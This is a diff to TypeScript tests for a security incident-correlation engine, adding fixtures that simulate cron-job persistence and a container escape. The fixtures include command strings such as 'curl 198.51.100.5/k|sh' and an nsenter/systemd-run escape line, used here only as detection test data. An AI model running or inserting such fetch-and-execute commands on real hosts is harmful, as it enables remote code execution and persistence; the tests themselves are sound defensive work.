@@ -17,7 +17,9 @@ import {
   webShellFacts,
 } from "../../../testing/sample-incident.ts";
 import type { SignalFact } from "../../observe/detect/detect-fact.ts";
+import type { IncidentInput } from "./incident-input.ts";
 import { judgeIncidents } from "./judge-incidents.ts";
+import { addUpScore, scoreParts } from "./score-incident.ts";
 
 function lone(name: string, second: number, given: Partial<SignalFact> = {}): SignalFact {
   return sampleSignal(
@@ -237,20 +239,173 @@ test("what runs all the time ties nothing together but what came after a signal 
   ]);
 });
 
-test("facts in any order give the same incidents", () => {
-  const { signals, processes, steps } = webShellFacts();
-  const expected = JSON.stringify(judgeIncidents(sampleInput({ signals, processes, steps })));
-  const shuffled = fc.tuple(
-    fc.shuffledSubarray(signals as SignalFact[], { minLength: signals.length }),
-    fc.shuffledSubarray([...processes], { minLength: processes.length }),
-    fc.shuffledSubarray([...steps], { minLength: steps.length }),
+type Facts = Pick<IncidentInput, "signals" | "processes" | "steps">;
+
+const onHost = { container: "host:node-1", workload: undefined, uid: 0 } as const;
+
+/** A service writes a job for cron, which then runs it, twice; beside it, another job of cron. */
+function plantedJobFacts(): Facts {
+  const cron = { host: "cron", entryKind: "scheduled", ...onHost } as const;
+  const job = (name: string, second: number, line: string) =>
+    sampleProcess(
+      { process: name, entry: name, second },
+      { parent: "cron", arguments: line, ...onHost },
+    );
+  const write = { what: "write", subject: "/var/spool/cron/root", ...onHost } as const;
+  return {
+    signals: [
+      lone("redis", 10, { ...onHost, family: "persistence", tactics: ["persistence"] }),
+      lone("old", 0, { ...cron, rule: "noisy" }),
+      lone("old-2", 3600, { ...cron, rule: "noisy" }),
+      lone("job", 60, { ...cron, family: "download-execute", tactics: ["execution"] }),
+      lone("job-2", 120, { ...cron, family: "download-execute", tactics: ["execution"] }),
+    ],
+    processes: [
+      sampleProcess({ process: "cron", entry: "", second: -99 }, { parent: "", ...onHost }),
+      ...["old", "old-2"].map((name, at) => job(name, at * 3600, "-c backup")),
+      ...["job", "job-2"].map((name, at) => job(name, 60 + at * 60, "-c 'curl x | sh'")),
+    ],
+    steps: [sampleStep({ process: "redis", entry: "redis", second: 10 }, write)],
+  };
+}
+
+/** A pod enters the machine and has its service manager run something, beside an old unit. */
+function enteredMachineFacts(): Facts {
+  const unit = { host: "systemd", entryKind: "startup", ...onHost } as const;
+  const line = '-c "curl 198.51.100.5/k|sh"';
+  const place = (process: string, second: number) => ({ process, entry: process, second });
+  const tool = { binary: "/usr/bin/nsenter", arguments: `-t 1 -- systemd-run sh ${line}` };
+  const below = { parent: "systemd", ...onHost };
+  return {
+    signals: [
+      lone("pod", 5, { container: webContainer, family: "escape", level: "medium" }),
+      lone("unit", 15, { ...unit, family: "download-execute" }),
+      lone("other", 16, unit),
+    ],
+    processes: [
+      sampleProcess(place("pod", 5), tool),
+      sampleProcess(place("unit", 15), { arguments: line, ...below }),
+      sampleProcess(place("other", 16), { arguments: "-c backup", ...below }),
+    ],
+    steps: [],
+  };
+}
+
+const stories = { webShellFacts, plantedJobFacts, enteredMachineFacts };
+
+test("a job that a service wrote is the service's incident, with each of its runs", () => {
+  const incidents = judgeIncidents(sampleInput(plantedJobFacts()));
+  assert.deepEqual(
+    incidents.map(({ entries }) => entries),
+    [["redis", "job", "job-2"], ["old-2"], ["old"]],
+    "the job that ran before is none of it",
+  );
+  assert.match(
+    incidents[0]?.story.join(" ") ?? "",
+    /Its 3 sessions are one incident: it left "\/var\/spool\/cron\/root" .* the same job ran again/,
+  );
+});
+
+test("what a pod has the machine's service manager do is the pod's incident", () => {
+  const incidents = judgeIncidents(sampleInput(enteredMachineFacts()));
+  assert.deepEqual(incidents.map(({ entries }) => entries).toSorted(), [
+    ["other"],
+    ["pod", "unit"],
+  ]);
+  const joined = incidents.find(({ entries }) => entries.length === 2);
+  assert.match(joined?.story.join(" ") ?? "", /handed over the command "curl 198.51.100.5\/k|sh"/);
+});
+
+test("sessions that are joined count no signal twice", () => {
+  const facts = plantedJobFacts();
+  const [joined] = judgeIncidents(sampleInput(facts));
+  const own = facts.signals.filter(({ entry }) => joined?.entries.includes(entry));
+  const parts = scoreParts(own, []);
+  assert.deepEqual(joined?.scoreParts, parts);
+  assert.equal(joined?.score, addUpScore(parts));
+  assert.deepEqual(
+    parts.map(({ label }) => label),
+    ["signals of download-execute, and again", "signals of persistence", "2 tactics"],
+    "each family once, whichever session it came from",
+  );
+  assert.equal(joined?.signals.length, own.length);
+});
+
+test("facts in any order give the same incidents, with the same ids", () => {
+  for (const facts of Object.values(stories)) {
+    const { signals, processes, steps } = facts();
+    const expected = JSON.stringify(judgeIncidents(sampleInput({ signals, processes, steps })));
+    const shuffled = fc.tuple(
+      fc.shuffledSubarray([...signals], { minLength: signals.length }),
+      fc.shuffledSubarray([...processes], { minLength: processes.length }),
+      fc.shuffledSubarray([...steps], { minLength: steps.length }),
+    );
+    fc.assert(
+      fc.property(shuffled, ([some, others, more]) => {
+        const input = sampleInput({ signals: some, processes: others, steps: more });
+        assert.equal(JSON.stringify(judgeIncidents(input)), expected);
+      }),
+      { numRuns: 30 },
+    );
+  }
+});
+
+test("jobs, units and logins of a busy host in any order fall into the same incidents", () => {
+  const kinds = fc.constantFrom("scheduled", "startup", "login", "unknown", "service");
+  const paths = fc.constantFrom(
+    "/var/spool/cron/root",
+    "/etc/cron.d/x",
+    "/etc/systemd/system/net.service",
+    "/root/.ssh/authorized_keys",
+    "/etc/profile.d/x.sh",
+    "/tmp/x",
+  );
+  const lines = fc.constantFrom(
+    "-c backup",
+    "-c 'curl 198.51.100.5/k | sh'",
+    "systemd-run sh -c 'curl 198.51.100.5/k | sh'",
+    "/tmp/x",
+  );
+  const one = fc.record({
+    kind: kinds,
+    path: paths,
+    line: lines,
+    second: fc.nat(9000),
+    host: fc.constantFrom("cron", "systemd", "sshd", ""),
+    inPod: fc.boolean(),
+  });
+  const hosts = ["cron", "systemd", "sshd"].map((name) =>
+    sampleProcess(
+      { process: name, entry: "", second: -99 },
+      { parent: "", binary: `/usr/sbin/${name}`, ...onHost },
+    ),
   );
   fc.assert(
-    fc.property(shuffled, ([some, others, more]) => {
-      const input = sampleInput({ signals: some, processes: others, steps: more });
-      assert.equal(JSON.stringify(judgeIncidents(input)), expected);
+    fc.property(fc.array(one, { minLength: 2, maxLength: 9 }), fc.nat(), (made, seed) => {
+      const facts = made.map(({ kind, path, line, second, host, inPod }, at) => {
+        const place = { process: `p${at}`, entry: `p${at}`, second };
+        const where = inPod ? { container: `pod-${at % 2}` } : onHost;
+        const family = inPod ? ("escape" as const) : ("persistence" as const);
+        return {
+          signal: lone(`p${at}`, second, { ...where, entryKind: kind, host, family }),
+          process: sampleProcess(place, { ...where, parent: host, arguments: line }),
+          step: sampleStep(place, { ...where, what: "write", subject: path }),
+        };
+      });
+      const input = (some: typeof facts) =>
+        sampleInput({
+          signals: some.map(({ signal }) => signal),
+          processes: [...some.map(({ process }) => process), ...hosts],
+          steps: some.map(({ step }) => step),
+        });
+      const turned = facts.map((_, at) => facts[(at + seed) % facts.length] ?? facts[0]);
+      const other = turned.flatMap((fact) => fact ?? []).reverse();
+      assert.equal(
+        JSON.stringify(judgeIncidents(input(other))),
+        JSON.stringify(judgeIncidents(input(facts))),
+      );
     }),
-    { numRuns: 30 },
+    { numRuns: 100 },
   );
 });
 
